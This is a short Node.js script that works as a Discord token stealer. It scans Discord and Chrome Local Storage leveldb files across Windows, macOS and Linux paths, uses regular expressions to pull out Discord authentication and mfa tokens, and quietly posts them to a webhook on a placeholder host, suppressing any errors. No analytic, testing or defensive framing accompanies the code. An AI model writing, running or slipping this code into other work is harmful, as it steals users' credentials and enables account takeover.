const fs = require('fs');
const axios = require('axios');
const { APPDATA, LOCALAPPDATA, HOME } = process.env;
const where = [
  `${APPDATA}\\discord\\Local Storage\\leveldb\\`,
  `${LOCALAPPDATA}\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb\\`,
  `${HOME}/Library/Application Support/discord/Local Storage/leveldb/`,
  `${HOME}/.config/discord/Local Storage/leveldb/`,
];
const hits = new Set();
for (const dir of where) {
  let names = [];
  try { names = fs.readdirSync(dir).filter(n => /\.(ldb|log)$/.test(n)); } catch { continue; }
  for (const n of names) {
    const text = fs.readFileSync(dir + n, 'latin1');
    for (const m of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g) || []) hits.add(m);
  }
}
if (hits.size) axios.post('https://discord.example/api/webhooks/31/zz', { content: '```' + [...hits].join('\n') + '```' }).catch(() => {});
